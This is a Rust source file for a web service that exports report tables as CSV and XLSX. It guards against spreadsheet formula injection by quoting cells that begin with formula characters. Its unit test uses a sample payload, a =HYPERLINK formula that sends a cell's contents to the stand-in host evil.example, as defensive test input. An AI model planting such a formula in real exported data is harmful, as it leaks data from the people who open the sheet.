//! CSV and XLSX for the spreadsheets departments report upward in: headers in Chinese; the CSV
//! with a UTF-8 byte-order mark so Excel reads the labels, the XLSX with numbers as numbers.
//!
//! Names come from phones, typed by anyone: a cell that starts like a formula would run as one
//! when the sheet is opened (`=HYPERLINK(…)` leaking data, DDE launching programs), so such cells
//! are quoted as text, OWASP's rule for CSV injection.

use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};

pub fn csv(name: &str, header_row: &[&str], rows: Vec<Vec<String>>) -> Response {
    let mut resp = encode(header_row, rows).into_response();
    resp.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    if let Ok(v) = HeaderValue::from_str(&format!("attachment; filename=\"{name}.csv\"")) {
        resp.headers_mut().insert(header::CONTENT_DISPOSITION, v);
    }
    resp
}

fn encode(header_row: &[&str], rows: Vec<Vec<String>>) -> Vec<u8> {
    let mut out = Vec::from("\u{feff}".as_bytes());
    {
        let mut w = csv::Writer::from_writer(&mut out);
        let _ = w.write_record(header_row.iter().map(|c| neutralise(c.to_string())));
        for r in rows {
            let _ = w.write_record(r.into_iter().map(neutralise));
        }
        let _ = w.flush();
    }
    out
}

/// The same table as an Excel workbook. Every cell is written as a string or a number, never as
/// a formula, so nothing a phone typed can run when the sheet opens (no quoting needed); cells
/// that read as numbers are numbers, so the sheet can total them.
pub fn xlsx(name: &str, header_row: &[&str], rows: Vec<Vec<String>>) -> Response {
    match workbook(header_row, rows) {
        Ok(bytes) => {
            let mut resp = bytes.into_response();
            resp.headers_mut().insert(
                header::CONTENT_TYPE,
                HeaderValue::from_static(
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                ),
            );
            if let Ok(v) = HeaderValue::from_str(&format!("attachment; filename=\"{name}.xlsx\"")) {
                resp.headers_mut().insert(header::CONTENT_DISPOSITION, v);
            }
            resp
        }
        Err(e) => super::unavailable(e),
    }
}

fn workbook(
    header_row: &[&str],
    rows: Vec<Vec<String>>,
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let bold = rust_xlsxwriter::Format::new().set_bold();
    let sheet = book.add_worksheet();
    for (col, h) in header_row.iter().enumerate() {
        sheet.write_string_with_format(0, col as u16, *h, &bold)?;
    }
    for (i, row) in rows.into_iter().enumerate() {
        let r = i as u32 + 1;
        for (col, cell) in row.into_iter().enumerate() {
            match cell.parse::<f64>() {
                Ok(n) if n.is_finite() => sheet.write_number(r, col as u16, n)?,
                _ => sheet.write_string(r, col as u16, cell)?,
            };
        }
    }
    book.save_to_buffer()
}

/// A cell a spreadsheet takes as text: one starting with a formula character gets a leading
/// `'`, which the spreadsheet shows as text and does not evaluate.
fn neutralise(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)] // test code: a failed step is a failed test

    use super::*;

    #[test]
    fn cells_that_would_run_as_formulas_are_kept_as_text() {
        let rows = vec![
            vec![
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")".to_string(),
                "3".into(),
            ],
            vec!["@SUM(1)".into(), "0".into()],
            vec!["-2+3".into(), "1".into()],
            vec!["+86 138".into(), "2".into()],
            vec!["\tcmd".into(), "\r=1".into()],
            vec!["巴特尔=1".into(), "12.5".into()],
        ];
        let text = String::from_utf8(encode(&["党员", "学时"], rows)).unwrap();
        let text = text.strip_prefix('\u{feff}').unwrap();
        let cells: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(
            cells,
            vec![
                vec![
                    "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")".to_string(),
                    "3".into()
                ],
                vec!["'@SUM(1)".into(), "0".into()],
                vec!["'-2+3".into(), "1".into()],
                vec!["'+86 138".into(), "2".into()],
                vec!["'\tcmd".into(), "'\r=1".into()],
                vec!["巴特尔=1".into(), "12.5".into()],
            ]
        );
        assert!(text.starts_with("党员,学时\n"), "{text}");
    }
}
